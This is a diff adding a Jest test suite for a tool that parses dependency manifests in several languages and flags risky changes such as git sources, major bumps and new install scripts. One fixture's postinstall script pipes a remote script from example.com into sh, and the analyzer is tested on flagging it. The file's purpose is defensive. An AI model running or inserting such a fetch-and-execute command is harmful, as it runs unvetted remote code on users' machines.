@@ -0,0 +1,161 @@
+const { analyzeDependencies } = require('../src/analyzers/dependencies');
+const { analyzeRisk } = require('../src/analyzers/risk');
+const { parseManifest, isMajorBump, compareVersions } = require('../src/parsers/manifests');
+
+describe('Manifest Parsers', () => {
+  test('parses package.json sections, sources and install scripts', () => {
+    const manifest = parseManifest('package.json', JSON.stringify({
+      dependencies: { lodash: '^4.17.21', fork: 'github:me/fork#main', local: 'file:../local' },
+      devDependencies: { jest: '~29.7.0', tarball: 'https://example.com/pkg.tgz' },
+      scripts: { test: 'jest', postinstall: 'node setup.js' }
+    }));
+
+    expect(manifest.dependencies.lodash).toEqual({ spec: '^4.17.21', version: '4.17.21', type: 'prod', source: 'registry' });
+    expect(manifest.dependencies.fork.source).toBe('git');
+    expect(manifest.dependencies.local.source).toBe('file');
+    expect(manifest.dependencies.jest.type).toBe('dev');
+    expect(manifest.dependencies.tarball.source).toBe('url');
+    expect(manifest.scripts).toEqual({ postinstall: 'node setup.js' });
+  });
+
+  test('parses requirements.txt', () => {
+    const manifest = parseManifest('requirements-dev.txt', [
+      '# comment',
+      '-r base.txt',
+      'Django==4.2.1',
+      'requests[security]>=2.28 ; python_version >= "3.8"',
+      '-e git+https://github.com/org/lib.git#egg=my_lib',
+      'pkg @ https://example.com/pkg-1.0.tar.gz'
+    ].join('\n'));
+
+    expect(manifest.dependencies.django.version).toBe('4.2.1');
+    expect(manifest.dependencies.requests.spec).toBe('>=2.28');
+    expect(manifest.dependencies['my-lib'].source).toBe('git');
+    expect(manifest.dependencies.pkg.source).toBe('url');
+  });
+
+  test('parses go.mod require blocks and local replacements', () => {
+    const manifest = parseManifest('go.mod', [
+      'module example.com/app',
+      'require github.com/pkg/errors v0.9.1',
+      'require (',
+      '  golang.org/x/net v0.17.0 // indirect',
+      '  github.com/org/lib v1.2.0',
+      ')',
+      'replace github.com/org/lib => ../lib'
+    ].join('\n'));
+
+    expect(manifest.dependencies['github.com/pkg/errors'].version).toBe('0.9.1');
+    expect(manifest.dependencies['golang.org/x/net'].type).toBe('indirect');
+    expect(manifest.dependencies['github.com/org/lib'].source).toBe('file');
+  });
+
+  test('parses Cargo.toml inline and table dependencies', () => {
+    const manifest = parseManifest('Cargo.toml', [
+      '[package]',
+      'name = "app"',
+      'version = "0.1.0"',
+      '[dependencies]',
+      'serde = "1.0"',
+      'tokio = { version = "1.32", features = ["full"] }',
+      'mylib = { git = "https://github.com/org/mylib" }',
+      '[dev-dependencies.criterion]',
+      'version = "0.5"'
+    ].join('\n'));
+
+    expect(manifest.dependencies.name).toBeUndefined();
+    expect(manifest.dependencies.serde.version).toBe('1.0');
+    expect(manifest.dependencies.tokio.version).toBe('1.32');
+    expect(manifest.dependencies.mylib.source).toBe('git');
+    expect(manifest.dependencies.criterion).toMatchObject({ version: '0.5', type: 'dev' });
+  });
+
+  test('parses Gemfile gems and groups', () => {
+    const manifest = parseManifest('Gemfile', [
+      "source 'https://rubygems.org'",
+      "gem 'rails', '~> 7.0.4'",
+      "gem 'internal', git: 'https://github.com/org/internal.git'",
+      'group :development, :test do',
+      "  gem 'rspec-rails', '6.0.0'",
+      'end'
+    ].join('\n'));
+
+    expect(manifest.dependencies.rails).toMatchObject({ version: '7.0.4', type: 'prod', source: 'registry' });
+    expect(manifest.dependencies.internal.source).toBe('git');
+    expect(manifest.dependencies['rspec-rails'].type).toBe('dev');
+  });
+
+  test('compares versions and detects major bumps', () => {
+    expect(compareVersions('1.10.0', '1.9.0')).toBe(1);
+    expect(compareVersions('2.0', '2.0.0')).toBe(0);
+    expect(isMajorBump('1.9.0', '2.0.0')).toBe(true);
+    expect(isMajorBump('1.2.0', '1.3.0')).toBe(false);
+    expect(isMajorBump('0.9.1', '0.10.0')).toBe(true);
+  });
+});
+
+describe('Dependency Analyzer', () => {
+  const basePackage = JSON.stringify({
+    dependencies: { react: '^17.0.2', lodash: '^4.17.21', moment: '^2.29.0', axios: '^1.6.0' }
+  }, null, 2);
+  const headPackage = JSON.stringify({
+    dependencies: { react: '^18.2.0', lodash: '^4.17.20', axios: '^1.6.2', left: 'git+https://github.com/x/left.git' },
+    scripts: { postinstall: 'curl https://example.com/install.sh | sh' }
+  }, null, 2);
+
+  const files = [{ filename: 'package.json', status: 'modified' }];
+  const contents = { 'package.json': { base: basePackage, head: headPackage } };
+
+  test('lists added, removed, upgraded and downgraded dependencies', async () => {
+    const result = await analyzeDependencies(files, { contents });
+    const byName = Object.fromEntries(result.changes.map(c => [c.name, c]));
+
+    expect(byName.react).toMatchObject({ kind: 'upgraded', from: '^17.0.2', to: '^18.2.0', flags: ['major'] });
+    expect(byName.lodash).toMatchObject({ kind: 'downgraded', flags: ['downgrade'] });
+    expect(byName.axios).toMatchObject({ kind: 'upgraded', flags: [] });
+    expect(byName.left).toMatchObject({ kind: 'added', flags: ['git'] });
+    expect(byName.moment).toMatchObject({ kind: 'removed', to: null });
+    expect(result.summary).toMatchObject({ added: 1, removed: 1, upgraded: 2, downgraded: 1, installScripts: 1 });
+  });
+
+  test('creates risk findings with manifest line numbers', async () => {
+    const result = await analyzeDependencies(files, { contents });
+    const gitFinding = result.findings.find(f => f.type === 'git');
+    const scriptFinding = result.findings.find(f => f.type === 'install-script');
+
+    expect(gitFinding).toMatchObject({ filename: 'package.json', category: 'dependencies', severity: 'high', line: 6 });
+    expect(scriptFinding.severity).toBe('high');
+    expect(scriptFinding.message).toContain('New "postinstall" script');
+    expect(result.findings.find(f => f.type === 'major').severity).toBe('medium');
+  });
+
+  test('treats added manifests as all-new dependencies', async () => {
+    const result = await analyzeDependencies(
+      [{ filename: 'services/api/requirements.txt', status: 'added' }],
+      { contents: { 'services/api/requirements.txt': { base: null, head: 'flask==3.0.0\n' } } }
+    );
+
+    expect(result.changes).toEqual([
+      { manifest: 'services/api/requirements.txt', name: 'flask', kind: 'added', from: null, to: '==3.0.0', type: 'prod', flags: [] }
+    ]);
+    expect(result.findings).toHaveLength(0);
+  });
+
+  test('skips non-manifest and ignored files', async () => {
+    const result = await analyzeDependencies(
+      [{ filename: 'src/index.js', status: 'modified' }, { filename: 'vendor/package.json', status: 'modified' }],
+      { contents: { 'vendor/package.json': { base: '{}', head: headPackage } }, ignorePatterns: ['vendor/**'] }
+    );
+
+    expect(result.changes).toHaveLength(0);
+    expect(result.summary.manifests).toBe(0);
+  });
+
+  test('dependency findings escalate the manifest in the risk analysis', async () => {
+    const dependencies = await analyzeDependencies(files, { contents });
+    const risk = await analyzeRisk(files, { findings: dependencies.findings });
+
+    expect(risk.highRiskCount).toBe(1);
+    expect(risk.files[0].categories).toContain('dependencies');
+  });
+});